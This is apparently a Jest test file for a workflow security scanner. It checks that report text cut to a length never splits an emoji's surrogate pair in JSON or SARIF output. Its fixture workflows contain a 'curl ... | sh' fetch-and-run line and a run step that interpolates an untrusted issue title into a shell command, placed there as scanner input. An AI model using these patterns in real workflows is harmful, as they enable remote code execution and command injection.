/**
 * Reports quote repository text cut to a length. A cut between the halves of a surrogate pair
 * (an emoji) would leave a lone half: invalid Unicode in the JSON report and in SARIF.
 */
import { afterAll, describe, expect, it } from '@jest/globals';
import { promises as fs } from 'node:fs';
import { cutText, shorten } from '../../src/shorten.js';
import { runCliCaptured } from '../support/run-cli.js';
import { makeTree } from './support/trees.js';

/** A lone surrogate as JSON.stringify writes it (pairs are written as they are). */
const LONE_SURROGATE_ESCAPE = /\\u[dD][89a-fA-F][0-9a-fA-F]{2}/;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

const roots: string[] = [];
afterAll(async () => {
  await Promise.all(roots.map((r) => fs.rm(r, { recursive: true, force: true })));
});

describe('cutText and shorten', () => {
  it('never split a surrogate pair, at any cut', () => {
    const text = 'a😀b😀😀c';
    for (let max = 0; max <= text.length + 1; max++) {
      expect(cutText(text, max)).not.toMatch(LONE_SURROGATE);
      expect(cutText(text, max).length).toBeLessThanOrEqual(max);
      expect(shorten(text, Math.max(1, max))).not.toMatch(LONE_SURROGATE);
    }
    expect(cutText(text, 2)).toBe('a');
    expect(cutText(text, 3)).toBe('a😀');
    expect(shorten(text, 4)).toBe('a😀…');
  });
});

/** An emoji straddling every cut from 60 to 320 units, in text the checks quote. */
function emojiAtEveryCut(prefix: string): string {
  let text = prefix;
  while (text.length < 330) text += `${'x'.repeat(text.length % 2)}😀`;
  return text;
}

describe('reports of text cut mid-emoji', () => {
  it('JSON and SARIF carry no lone surrogate', async () => {
    const files: Record<string, string> = {};
    // Quoted commands and expressions, cut at 80 and 120 units, at each parity of the emoji.
    for (const shift of [0, 1]) {
      const text = emojiAtEveryCut('x'.repeat(shift));
      files[`.github/workflows/w${shift}.yml`] = [
        'on: issues',
        'jobs:',
        '  a:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        `      - run: echo "\${{ github.event.issue.title || '${text}' }}"`,
        `      - run: curl -sSL https://example.org/${text} | sh`,
        '',
      ].join('\n');
    }
    const root = await makeTree(files);
    roots.push(root);
    for (const format of ['json', 'sarif']) {
      const run = await runCliCaptured(['scan', root, '--format', format, '--threshold', '0']);
      expect(run.stdout).toContain('😀');
      expect(run.stdout).not.toMatch(LONE_SURROGATE_ESCAPE);
    }
  });
});
